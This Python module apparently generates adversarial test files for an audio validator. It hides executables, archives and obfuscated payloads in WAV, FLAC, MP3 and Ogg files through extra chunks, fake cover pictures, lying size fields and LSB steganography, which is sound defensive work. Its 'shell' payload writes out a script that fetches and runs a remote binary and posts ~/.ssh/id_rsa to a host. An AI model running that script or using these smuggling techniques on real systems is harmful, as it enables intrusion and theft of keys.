"""Generators for every bad class of the threat model, as pure functions returning file bytes.

Three families:

1. Data as audio: text, binaries, archives, base64 or random bytes written as the samples of a
   valid WAV or FLAC file, and synthetic signals with no sound in them (constant, counters,
   byte patterns, an XOR/base64 payload as the data chunk).
2. Real audio carrying a payload: bytes after the last frame, an extra RIFF chunk, an oversized
   LIST/INFO or ID3 tag, a picture or GEOB that is really an archive or executable, size fields
   that lie.
3. LSB steganography in 16-bit PCM, through :mod:`audioval_corpus.stego_embed`.

Every function is deterministic: randomness comes from a seeded :class:`numpy.random.Generator`
and the encoders used (soundfile/libsndfile, hand-built headers) write no timestamps.
"""

from __future__ import annotations

import base64
import gzip
import io
import struct
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Literal

import numpy as np
import soundfile as sf

__all__ = [
    "PAYLOAD_KINDS",
    "SYNTHETIC_KINDS",
    "Container",
    "PcmEncoding",
    "RiffChunk",
    "add_flac_picture",
    "add_id3_tag",
    "add_list_info",
    "add_riff_chunk",
    "add_riff_id3",
    "add_vorbis_picture",
    "append_payload",
    "bytes_as_pcm",
    "encode_pcm",
    "flac_blocks",
    "id3v2_tag",
    "lie_about_sizes",
    "lsb_capacity",
    "lsb_stego",
    "make_payload",
    "riff_chunks",
    "synthetic_signal",
    "text_as_pcm",
    "text_samples",
    "xor_base64_as_pcm",
]

Container = Literal["wav", "flac"]
PcmEncoding = Literal["u8", "s16", "s24", "f32_affine", "f32_from_s16"]
TextMode = Literal["original", "normalised", "centred"]
SyntheticKind = Literal["silence", "constant", "ramp", "counter", "byte_square", "byte_pattern"]
LieKind = Literal[
    "riff_oversized", "riff_undersized", "data_oversized", "data_max", "data_undersized_hides"
]

PAYLOAD_KINDS: tuple[str, ...] = ("elf", "pe", "zip", "gzip", "shell", "text", "random")
SYNTHETIC_KINDS: tuple[str, ...] = (
    "silence",
    "constant",
    "ramp",
    "counter",
    "byte_square",
    "byte_pattern",
)

# Bytes per sample of each encoding, and the soundfile subtype that stores it.
_ENCODING_WIDTH: dict[str, int] = {"u8": 1, "s16": 2, "s24": 3, "f32_affine": 1, "f32_from_s16": 2}
_WAV_SUBTYPE: dict[str, str] = {
    "u8": "PCM_U8",
    "s16": "PCM_16",
    "s24": "PCM_24",
    "f32_affine": "FLOAT",
    "f32_from_s16": "FLOAT",
}
_FLAC_SUBTYPE: dict[str, str] = {"u8": "PCM_S8", "s16": "PCM_16", "s24": "PCM_24"}


# --- encoding ------------------------------------------------------------------------------------


def encode_pcm(
    samples: np.ndarray,
    *,
    sample_rate: int,
    container: Container = "wav",
    subtype: str = "PCM_16",
) -> bytes:
    """Write ``samples`` (frames, channels) as a WAV or FLAC file and return its bytes.

    Integer input is stored bit-exactly when its width matches ``subtype`` (libsndfile keeps
    the top bits: int16 -> PCM_U8/PCM_S8 keeps the high byte, int32 -> PCM_24 the high three
    bytes). libsndfile stamps the PEAK chunk of float WAVs with the wall-clock time; that field
    is zeroed so the same input always gives the same bytes.
    """
    arr = samples if samples.ndim == 2 else samples.reshape(-1, 1)
    buf = io.BytesIO()
    sf.write(buf, arr, sample_rate, format=container.upper(), subtype=subtype)
    out = bytearray(buf.getvalue())
    if container == "wav":
        for chunk in riff_chunks(bytes(out)):
            if chunk.chunk_id == b"PEAK" and chunk.size >= 8:
                out[chunk.data_offset + 4 : chunk.data_offset + 8] = b"\x00\x00\x00\x00"
    return bytes(out)


def _frames(values: np.ndarray, channels: int) -> np.ndarray:
    """Interleave a flat run of samples into (frames, channels), zero-padding the last frame."""
    pad = (-values.size) % channels
    if pad:
        values = np.concatenate([values, np.zeros(pad, dtype=values.dtype)])
    return values.reshape(-1, channels)


# --- payloads ------------------------------------------------------------------------------------

_WORD_TEXT = (
    "the of and to in is that for it as with was on be by this are from at or an have not but "
    "which one all were we when there can more if will about out so what up their would other "
    "into has time some could them these than then its two may only new first any like over"
)


def _prose(rng: np.random.Generator, size: int) -> bytes:
    vocabulary = np.asarray(_WORD_TEXT.split())
    words = vocabulary[rng.integers(vocabulary.size, size=size // 4 + 8)]
    return " ".join(words.tolist()).encode()[:size]


def _elf_header(rng: np.random.Generator) -> bytes:
    """A 64-byte ELF64 little-endian x86-64 executable header (System V gABI 4.1 layout)."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    entry = 0x400000 + int(rng.integers(0x1000, 0x10000))
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, entry, 64, 0, 0, 64, 56, 1, 64, 0, 0)


def _pe_header(rng: np.random.Generator) -> bytes:
    """An MZ stub whose e_lfanew points at a PE/COFF header for x86-64 (PE/COFF spec 3)."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    dos[0x4E : 0x4E + len(stub)] = stub
    coff = struct.pack("<4sHHIIIHH", b"PE\x00\x00", 0x8664, 3, 0, 0, 0, 0xF0, 0x22)
    return bytes(dos) + coff + rng.bytes(16)


def make_payload(kind: str, size: int, *, seed: int = 0) -> bytes:
    """Build a payload of about ``size`` bytes that looks like ``kind``.

    ``kind`` is one of :data:`PAYLOAD_KINDS`: ``elf`` / ``pe`` (a valid executable header then
    random code-like bytes), ``zip`` / ``gzip`` (a real archive of text and random members),
    ``shell`` (a downloader script), ``text`` (English-like prose) or ``random`` (as encrypted
    data looks). Archives are built with fixed timestamps so they are deterministic.
    """
    if kind not in PAYLOAD_KINDS:
        raise ValueError(f"unknown payload kind {kind!r}; expected one of {PAYLOAD_KINDS}")
    rng = np.random.default_rng([seed, size, PAYLOAD_KINDS.index(kind)])
    size = max(size, 64)
    if kind == "elf":
        head = _elf_header(rng)
        return head + rng.bytes(size - len(head))
    if kind == "pe":
        head = _pe_header(rng)
        return head + rng.bytes(max(0, size - len(head)))
    if kind == "zip":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as archive:
            stamp = (2020, 1, 1, 0, 0, 0)
            archive.writestr(zipfile.ZipInfo("readme.txt", stamp), _prose(rng, size // 4))
            archive.writestr(zipfile.ZipInfo("bin/loader", stamp), rng.bytes(size // 2))
        return buf.getvalue()
    if kind == "gzip":
        return gzip.compress(_prose(rng, size // 2) + rng.bytes(size // 2), mtime=0)
    if kind == "shell":
        host = f"{int(rng.integers(10, 250))}.{int(rng.integers(0, 255))}.0.{int(rng.integers(1, 250))}"
        script = (
            "#!/bin/sh\n"
            f"cd /tmp && curl -fsSL http://{host}/x -o .x && chmod +x .x && ./.x &\n"
            f'echo "$(cat ~/.ssh/id_rsa 2>/dev/null)" | base64 | wget -q --post-data=- http://{host}/k\n'
        ).encode()
        filler = b"# " + _prose(rng, size) + b"\n"
        return (script + filler)[:size] if size > len(script) else script
    if kind == "text":
        return _prose(rng, size)
    return rng.bytes(size)  # "random": what encrypted data looks like


# --- family 1: data as audio ---------------------------------------------------------------------


def text_samples(text: str, *, mode: TextMode = "original", scale: float = 256.0) -> np.ndarray:
    """The float samples the mock recipe makes of ``text``: one sample per character.

    ``original`` is ``ord(c) / scale`` (the original mock tracks; ASCII lands in [0, 0.5) with
    the default scale), ``normalised`` divides by the largest code point (full scale, still all
    positive), ``centred`` removes the mean then normalises the peak to 1. Returns float64 in
    [-1, 1], shape (len(text),).
    """
    codes = np.frombuffer(text.encode("utf-32-le"), dtype="<u4").astype(np.float64)
    if codes.size == 0:
        return codes
    if mode == "original":
        values = codes / scale
    elif mode == "normalised":
        values = codes / codes.max()
    elif mode == "centred":
        centred = codes - codes.mean()
        peak = np.abs(centred).max()
        values = centred / peak if peak > 0 else centred
    else:
        raise ValueError(f"unknown text mode {mode!r}")
    return np.clip(values, -1.0, 1.0)


def text_as_pcm(
    text: str,
    *,
    sample_rate: int = 22050,
    mode: TextMode = "original",
    scale: float = 256.0,
    channels: int = 1,
    container: Container = "wav",
) -> bytes:
    """The original mock track: each character of ``text`` as a sample, written as 16-bit PCM.

    Sample ``i`` (interleaved across ``channels``) is ``round(text_samples(text)[i] * 32767)``.
    """
    values = text_samples(text, mode=mode, scale=scale)
    pcm = np.round(values * 32767.0).astype(np.int16)
    return encode_pcm(
        _frames(pcm, channels), sample_rate=sample_rate, container=container, subtype="PCM_16"
    )


def _bytes_to_samples(data: bytes, encoding: PcmEncoding, channels: int) -> np.ndarray:
    """Samples whose stored bytes are ``data`` (zero-padded to whole frames)."""
    width = _ENCODING_WIDTH[encoding]
    pad = (-len(data)) % (width * channels)
    raw = np.frombuffer(data + bytes(pad), dtype=np.uint8)
    if encoding == "u8":
        # 8-bit WAV is unsigned; libsndfile stores the high byte of an int16 plus 0x80.
        values: np.ndarray = (raw.astype(np.int16) - 128) << 8
    elif encoding == "s16":
        values = raw.view("<i2")
    elif encoding == "s24":
        triples = raw.reshape(-1, 3).astype(np.uint32)
        packed = (triples[:, 0] << 8) | (triples[:, 1] << 16) | (triples[:, 2] << 24)
        values = packed.view(np.int32)
    elif encoding == "f32_affine":
        values = (raw.astype(np.float32) / np.float32(127.5)) - np.float32(1.0)
    elif encoding == "f32_from_s16":
        values = raw.view("<i2").astype(np.float32) / np.float32(32768.0)
    else:
        raise ValueError(f"unknown encoding {encoding!r}")
    return values.reshape(-1, channels)


def bytes_as_pcm(
    data: bytes,
    *,
    sample_rate: int = 44100,
    channels: int = 1,
    encoding: PcmEncoding = "s16",
    container: Container = "wav",
) -> bytes:
    """Wrap raw ``data`` (a binary, an archive, random bytes) as the samples of a valid file.

    ``u8``, ``s16`` and ``s24`` store the bytes themselves as 8-bit unsigned, 16-bit or 24-bit
    samples (in WAV the data chunk *is* ``data``, zero-padded to whole frames; in FLAC, which
    is lossless, the decoded samples give the bytes back, 8-bit ones offset by 128).
    ``f32_affine`` makes one float per byte (``b / 127.5 - 1``), ``f32_from_s16`` reads byte
    pairs as int16 and scales them to [-1, 1); both are WAV-only (FLAC has no float samples).
    """
    samples = _bytes_to_samples(data, encoding, channels)
    if container == "flac":
        if encoding not in _FLAC_SUBTYPE:
            raise ValueError(f"FLAC cannot store {encoding!r} samples")
        subtype = _FLAC_SUBTYPE[encoding]
    else:
        subtype = _WAV_SUBTYPE[encoding]
    return encode_pcm(samples, sample_rate=sample_rate, container=container, subtype=subtype)


def synthetic_signal(
    kind: SyntheticKind,
    *,
    seconds: float = 2.0,
    sample_rate: int = 44100,
    channels: int = 1,
    seed: int = 0,
    container: Container = "wav",
) -> bytes:
    """A 16-bit file holding a signal with no sound in it.

    ``silence`` (all zeros), ``constant`` (a random DC level), ``ramp`` (one linear sweep of the
    full range), ``counter`` (a sample counter with a random step, wrapping: a sawtooth),
    ``byte_square`` (bytes 0x00/0xFF in runs, as a square wave) and ``byte_pattern`` (a short
    random byte pattern repeated).
    """
    if kind not in SYNTHETIC_KINDS:
        raise ValueError(f"unknown synthetic kind {kind!r}; expected one of {SYNTHETIC_KINDS}")
    rng = np.random.default_rng([seed, SYNTHETIC_KINDS.index(kind)])
    n = max(1, int(seconds * sample_rate)) * channels
    if kind == "silence":
        flat = np.zeros(n, dtype=np.int16)
    elif kind == "constant":
        flat = np.full(n, int(rng.integers(-32768, 32768)), dtype=np.int16)
    elif kind == "ramp":
        flat = np.round(np.linspace(-32768.0, 32767.0, n)).astype(np.int16)
    elif kind == "counter":
        step = int(rng.integers(1, 512))
        flat = ((np.arange(n, dtype=np.int64) * step) % 65536 - 32768).astype(np.int16)
    elif kind == "byte_square":
        run = int(rng.integers(1, 200))
        levels = np.array([0x00, 0xFF], dtype=np.uint8)
        raw = levels[(np.arange(2 * n, dtype=np.int64) // run) % 2]
        flat = raw.view("<i2")
    else:  # byte_pattern
        pattern = np.frombuffer(rng.bytes(int(rng.integers(2, 17))), dtype=np.uint8)
        flat = np.resize(pattern, 2 * n).view("<i2")
    return encode_pcm(
        _frames(flat, channels), sample_rate=sample_rate, container=container, subtype="PCM_16"
    )


def xor_base64_as_pcm(
    payload: bytes,
    *,
    seed: int = 0,
    order: Literal["b64_then_xor", "xor_then_b64"] = "b64_then_xor",
    key_length: int = 8,
    sample_rate: int = 44100,
    encoding: PcmEncoding = "s16",
) -> bytes:
    """A WAV whose data chunk is an obfuscated payload: the 2026 telnyx/TeamPCP loader case.

    The executable is base64-encoded and XORed with a short key (or XORed, then base64-encoded),
    the key is prepended, and the result is the data chunk, heard as noise.
    """
    rng = np.random.default_rng([seed, key_length])
    key = rng.bytes(key_length)
    stage = base64.b64encode(payload) if order == "b64_then_xor" else payload
    body = np.frombuffer(stage, dtype=np.uint8)
    mask = np.resize(np.frombuffer(key, dtype=np.uint8), body.size)
    xored = (body ^ mask).tobytes()
    blob = key + (xored if order == "b64_then_xor" else base64.b64encode(xored))
    return bytes_as_pcm(blob, sample_rate=sample_rate, encoding=encoding)


# --- family 2: real audio carrying a payload -----------------------------------------------------


@dataclass(frozen=True, slots=True)
class RiffChunk:
    """One chunk of a RIFF file: its id, where its 8-byte header starts and its declared size."""

    chunk_id: bytes
    offset: int
    size: int

    @property
    def data_offset(self) -> int:
        return self.offset + 8

    @property
    def end(self) -> int:
        """Offset just past the chunk's body and its pad byte (chunks are word-aligned)."""
        return self.data_offset + self.size + (self.size & 1)


def riff_chunks(wav: bytes) -> list[RiffChunk]:
    """The top-level chunks of a RIFF/WAVE file, in order, as their headers declare them.

    Parsing stops at the first header that does not fit in ``wav``; a declared size running
    past the end is reported as declared.
    """
    if wav[:4] != b"RIFF" or wav[8:12] != b"WAVE":
        raise ValueError("not a RIFF/WAVE file")
    chunks: list[RiffChunk] = []
    pos = 12
    while pos + 8 <= len(wav):
        chunk_id = wav[pos : pos + 4]
        (size,) = struct.unpack_from("<I", wav, pos + 4)
        chunks.append(RiffChunk(chunk_id, pos, size))
        pos += 8 + size + (size & 1)
    return chunks


def _chunk(chunk_id: bytes, body: bytes) -> bytes:
    return chunk_id + struct.pack("<I", len(body)) + body + (b"\x00" if len(body) & 1 else b"")


def _with_riff_size(wav: bytes | bytearray) -> bytes:
    out = bytearray(wav)
    out[4:8] = struct.pack("<I", len(out) - 8)
    return bytes(out)


def _data_chunk(wav: bytes) -> RiffChunk:
    for chunk in riff_chunks(wav):
        if chunk.chunk_id == b"data":
            return chunk
    raise ValueError("WAV has no data chunk")


def append_payload(audio: bytes, payload: bytes, *, cover_in_riff: bool = False) -> bytes:
    """Append ``payload`` after the end of ``audio``.

    For files written by libsndfile and ffmpeg that is right after the last audio: the data
    chunk (WAV), the last frame (FLAC, MP3 without ID3v1), the EOS page (Ogg). With
    ``cover_in_riff`` a WAV's RIFF size is grown to include the payload, so the bytes sit
    inside the RIFF but in no chunk.
    """
    out = audio + payload
    if cover_in_riff:
        if audio[:4] != b"RIFF":
            raise ValueError("cover_in_riff needs a WAV")
        out = _with_riff_size(out)
    return out


def add_riff_chunk(
    wav: bytes,
    payload: bytes,
    *,
    chunk_id: bytes = b"xtra",
    before_data: bool = True,
) -> bytes:
    """Insert an unknown chunk holding ``payload`` before (or after) the data chunk."""
    if len(chunk_id) != 4:
        raise ValueError("a RIFF chunk id is four bytes")
    data = _data_chunk(wav)
    at = data.offset if before_data else min(data.end, len(wav))
    return _with_riff_size(wav[:at] + _chunk(chunk_id, payload) + wav[at:])


def add_list_info(wav: bytes, payload: bytes, *, field: bytes = b"ICMT") -> bytes:
    """Add an oversized ``LIST``/``INFO`` chunk whose ``field`` (a comment by default) is
    ``payload``, after the data chunk, where ffmpeg and most editors put it."""
    info = b"INFO" + _chunk(b"ISFT", b"Lavf60.3.100\x00") + _chunk(field, payload + b"\x00")
    return add_riff_chunk(wav, info, chunk_id=b"LIST", before_data=False)


def _synchsafe(n: int) -> bytes:
    return bytes([(n >> 21) & 0x7F, (n >> 14) & 0x7F, (n >> 7) & 0x7F, n & 0x7F])


def id3v2_tag(frames: Sequence[tuple[bytes, bytes]]) -> bytes:
    """An ID3v2.3 tag of ``(frame_id, body)`` frames (ID3v2.3 informal standard, sections 3-4)."""
    body = b"".join(fid + struct.pack(">IH", len(data), 0) + data for fid, data in frames)
    return b"ID3\x03\x00\x00" + _synchsafe(len(body)) + body


def _payload_frame(
    payload: bytes, frame: Literal["APIC", "GEOB"], mime: str
) -> tuple[bytes, bytes]:
    if frame == "APIC":
        # text encoding 0, MIME, picture type 3 (front cover), empty description, the "picture".
        return b"APIC", b"\x00" + mime.encode() + b"\x00\x03\x00" + payload
    # text encoding 0, MIME, file name, description, the "object".
    return b"GEOB", b"\x00" + mime.encode() + b"\x00cover.bin\x00\x00" + payload


def _strip_id3v2(audio: bytes) -> bytes:
    if audio[:3] != b"ID3" or len(audio) < 10:
        return audio
    size = (audio[6] << 21) | (audio[7] << 14) | (audio[8] << 7) | audio[9]
    footer = 10 if audio[5] & 0x10 else 0
    return audio[10 + size + footer :]


def add_id3_tag(
    mp3: bytes,
    payload: bytes,
    *,
    frame: Literal["APIC", "GEOB"] = "APIC",
    mime: str = "image/jpeg",
) -> bytes:
    """Replace an MP3's ID3v2 tag by one whose cover picture (APIC) or general object (GEOB)
    is ``payload``: a zip or an ELF labelled as a JPEG."""
    title = (b"TIT2", b"\x00Untitled")
    return id3v2_tag([title, _payload_frame(payload, frame, mime)]) + _strip_id3v2(mp3)


def add_riff_id3(
    wav: bytes,
    payload: bytes,
    *,
    frame: Literal["APIC", "GEOB"] = "GEOB",
    mime: str = "application/octet-stream",
) -> bytes:
    """Add an ``id3 `` chunk (as some taggers do for WAV) whose ID3v2 frame carries ``payload``."""
    tag = id3v2_tag([_payload_frame(payload, frame, mime)])
    return add_riff_chunk(wav, tag, chunk_id=b"id3 ", before_data=False)


def flac_blocks(flac: bytes) -> list[tuple[int, int, int, bool]]:
    """The metadata blocks of a FLAC stream as ``(offset, type, length, is_last)``."""
    if flac[:4] != b"fLaC":
        raise ValueError("not a FLAC stream")
    blocks: list[tuple[int, int, int, bool]] = []
    pos = 4
    while pos + 4 <= len(flac):
        header = flac[pos]
        length = int.from_bytes(flac[pos + 1 : pos + 4], "big")
        last = bool(header & 0x80)
        blocks.append((pos, header & 0x7F, length, last))
        pos += 4 + length
        if last:
            break
    return blocks


def _flac_picture_body(payload: bytes, mime: str) -> bytes:
    """A METADATA_BLOCK_PICTURE body (FLAC format, section 8.8) holding ``payload``."""
    desc = b"cover"
    return (
        struct.pack(">II", 3, len(mime))
        + mime.encode()
        + struct.pack(">I", len(desc))
        + desc
        + struct.pack(">IIIII", 600, 600, 24, 0, len(payload))
        + payload
    )


def add_flac_picture(flac: bytes, payload: bytes, *, mime: str = "image/png") -> bytes:
    """Insert a PICTURE block whose image data is ``payload`` right after STREAMINFO."""
    blocks = flac_blocks(flac)
    offset, _btype, length, last = blocks[0]
    body = _flac_picture_body(payload, mime)
    if len(body) >= 1 << 24:
        raise ValueError("a FLAC metadata block holds at most 16 MiB")
    out = bytearray(flac)
    after = offset + 4 + length
    out[offset] &= 0x7F  # STREAMINFO is no longer the last block
    picture_header = bytes([(0x80 if last else 0x00) | 6]) + len(body).to_bytes(3, "big")
    return bytes(out[:after]) + picture_header + body + bytes(out[after:])


def add_vorbis_picture(ogg: bytes, payload: bytes, *, mime: str = "image/jpeg") -> bytes:
    """Add a ``METADATA_BLOCK_PICTURE`` comment (base64 of a FLAC picture block) whose image is
    ``payload`` to an Ogg Vorbis file; mutagen rewrites the comment pages and their CRCs."""
    from mutagen.oggvorbis import OggVorbis

    buf = io.BytesIO(ogg)
    tags = OggVorbis(buf)  # type: ignore[no-untyped-call]
    picture = base64.b64encode(_flac_picture_body(payload, mime)).decode()
    tags["metadata_block_picture"] = [picture]
    buf.seek(0)
    tags.save(buf)
    return buf.getvalue()


def lie_about_sizes(wav: bytes, kind: LieKind, *, payload: bytes = b"", seed: int = 0) -> bytes:
    """Make a WAV's size fields disagree with its bytes.

    ``riff_oversized`` / ``riff_undersized``: the RIFF size claims more / fewer bytes than the
    file holds. ``data_oversized``: the data chunk claims to run past the end of the file.
    ``data_max``: the data size is 0xFFFFFFFF. ``data_undersized_hides``: the data size is cut
    by ``len(payload)`` and the last bytes of the audio are overwritten with ``payload``, which
    then sits inside the RIFF but outside every chunk.
    """
    rng = np.random.default_rng([seed, len(wav)])
    out = bytearray(wav)
    data = _data_chunk(wav)
    size_at = data.offset + 4
    if kind == "riff_oversized":
        out[4:8] = struct.pack("<I", len(wav) - 8 + int(rng.integers(1, 1 << 20)))
    elif kind == "riff_undersized":
        cut = int(rng.integers(1, max(2, data.size // 2)))
        out[4:8] = struct.pack("<I", len(wav) - 8 - cut)
    elif kind == "data_oversized":
        out[size_at : size_at + 4] = struct.pack("<I", data.size + int(rng.integers(1, 1 << 20)))
    elif kind == "data_max":
        out[size_at : size_at + 4] = b"\xff\xff\xff\xff"
    elif kind == "data_undersized_hides":
        hidden = payload + (b"\x00" if len(payload) & 1 else b"")
        if not hidden or len(hidden) >= data.size:
            raise ValueError("payload must be non-empty and smaller than the data chunk")
        end = data.data_offset + data.size
        out[end - len(hidden) : end] = hidden
        out[size_at : size_at + 4] = struct.pack("<I", data.size - len(hidden))
    else:
        raise ValueError(f"unknown lie {kind!r}")
    return bytes(out)


# --- family 3: LSB steganography -----------------------------------------------------------------


def lsb_capacity(frames: int, channels: int, *, bits: int = 1) -> int:
    """Whole bytes that ``bits`` low bits of every sample of (frames, channels) can carry."""
    return frames * channels * bits // 8


def lsb_stego(
    audio: bytes,
    payload: bytes,
    *,
    bits: int = 1,
    fraction: float = 1.0,
    length_prefix: bool = False,
    bit_order: Literal["lsb_first", "msb_first"] = "lsb_first",
    interleaved: bool = True,
    seed: int = 0,
) -> bytes:
    """Hide ``payload`` in the low ``bits`` of a 16-bit WAV or FLAC; same container out.

    The embedding itself is :func:`audioval_corpus.stego_embed.embed_lsb`: ``fraction`` is the
    share of the capacity overwritten from the first sample on (a shorter payload is followed
    by seeded random filler, a longer one is cut); the other keywords are passed unchanged.
    """
    from audioval_corpus.stego_embed import embed_lsb

    info = sf.info(io.BytesIO(audio))
    if info.format not in ("WAV", "WAVEX", "FLAC") or info.subtype != "PCM_16":
        raise ValueError(
            f"LSB embedding needs 16-bit WAV or FLAC, got {info.format}/{info.subtype}"
        )
    samples, rate = sf.read(io.BytesIO(audio), dtype="int16", always_2d=True)
    stego = embed_lsb(
        samples,
        payload,
        bits=bits,
        fraction=fraction,
        length_prefix=length_prefix,
        bit_order=bit_order,
        interleaved=interleaved,
        seed=seed,
    )
    # Same container as the cover (WAVEX stays WAVEX: ffmpeg writes it for some layouts).
    buf = io.BytesIO()
    sf.write(buf, np.asarray(stego, dtype=np.int16), rate, format=info.format, subtype="PCM_16")
    return buf.getvalue()
